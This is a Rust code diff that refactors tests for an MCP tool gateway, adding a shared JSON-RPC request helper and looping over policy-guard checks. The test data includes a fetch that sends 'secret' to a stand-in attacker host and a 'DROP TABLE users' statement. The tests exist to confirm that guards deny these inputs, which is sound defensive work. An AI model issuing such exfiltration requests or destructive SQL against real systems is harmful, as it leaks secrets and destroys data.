@@ -92,8 +92,8 @@ impl Session {
         }
     }
 
-    /// Calls a tool; the JSON-RPC answer.
-    async fn call(&mut self, name: &str) -> Value {
+    /// Sends one request of the session; the JSON-RPC answer.
+    async fn request(&mut self, method: &str, params: Value) -> Value {
         self.next += 1;
         let resp = reqwest::Client::new()
             .post(&self.url)
@@ -101,29 +101,24 @@ impl Session {
             .header("accept", "application/json, text/event-stream")
             .header("mcp-session-id", &self.id)
             .header("mcp-protocol-version", "2025-11-25")
-            .json(
-                &json!({"jsonrpc": "2.0", "id": self.next, "method": "tools/call",
-                "params": {"name": name, "arguments": {"q": "release notes"}}}),
-            )
+            .json(&json!({"jsonrpc": "2.0", "id": self.next, "method": method, "params": params}))
             .send()
             .await
-            .expect("tools/call");
+            .expect(method);
         answer(resp).await
     }
 
+    /// Calls a tool; the JSON-RPC answer.
+    async fn call(&mut self, name: &str) -> Value {
+        self.request(
+            "tools/call",
+            json!({"name": name, "arguments": {"q": "release notes"}}),
+        )
+        .await
+    }
+
     async fn tools(&mut self) -> Vec<String> {
-        self.next += 1;
-        let resp = reqwest::Client::new()
-            .post(&self.url)
-            .bearer_auth(&self.token)
-            .header("accept", "application/json, text/event-stream")
-            .header("mcp-session-id", &self.id)
-            .header("mcp-protocol-version", "2025-11-25")
-            .json(&json!({"jsonrpc": "2.0", "id": self.next, "method": "tools/list"}))
-            .send()
-            .await
-            .expect("tools/list");
-        let v = answer(resp).await;
+        let v = self.request("tools/list", json!({})).await;
         let mut names: Vec<String> = v["result"]["tools"]
             .as_array()
             .expect("tools")
@@ -601,46 +596,33 @@ fn mcpgw_policy_run_demonstrates_each_guard() {
     );
 
     let fetch = |url: &str| json!({"server": "web", "tool": "fetch", "member": "alice", "arguments": {"url": url}});
-    let v = run(
-        guests::EGRESS_GUARD,
-        "egress-guard",
-        fetch("https://attacker.example/?q=secret"),
-        None,
-    );
-    assert_eq!(
-        (&v["decision"], &v["code"]),
-        (&json!("deny"), &json!("egress-not-allowed")),
-        "{v}"
-    );
-    assert!(
-        !v["reason"].as_str().unwrap_or("").contains("secret"),
-        "{v}"
-    );
-    let v = run(
-        guests::EGRESS_GUARD,
-        "egress-guard",
-        fetch("https://docs.example.com/page"),
-        None,
-    );
-    assert_eq!(v["decision"], "abstain", "{v}");
-
     let sql = |q: &str| json!({"server": "db", "tool": "query", "member": "alice", "arguments": {"sql": q}});
-    let v = run(
-        guests::SQL_GUARD,
-        "sql-guard",
-        sql("DROP TABLE users"),
-        None,
-    );
-    assert_eq!(
-        (&v["decision"], &v["code"]),
-        (&json!("deny"), &json!("destructive-sql")),
-        "{v}"
-    );
-    let v = run(
-        guests::SQL_GUARD,
-        "sql-guard",
-        sql("SELECT * FROM users WHERE id = 3"),
-        None,
-    );
-    assert_eq!(v["decision"], "abstain", "{v}");
+    for (wasm, name, attack, code, benign) in [
+        (
+            guests::EGRESS_GUARD,
+            "egress-guard",
+            fetch("https://attacker.example/?q=secret"),
+            "egress-not-allowed",
+            fetch("https://docs.example.com/page"),
+        ),
+        (
+            guests::SQL_GUARD,
+            "sql-guard",
+            sql("DROP TABLE users"),
+            "destructive-sql",
+            sql("SELECT * FROM users WHERE id = 3"),
+        ),
+    ] {
+        let v = run(wasm, name, attack, None);
+        assert_eq!(
+            (&v["decision"], &v["code"]),
+            (&json!("deny"), &json!(code)),
+            "{v}"
+        );
+        assert!(
+            !v["reason"].as_str().unwrap_or("").contains("secret"),
+            "{v}"
+        );
+        assert_eq!(run(wasm, name, benign, None)["decision"], "abstain");
+    }
 }
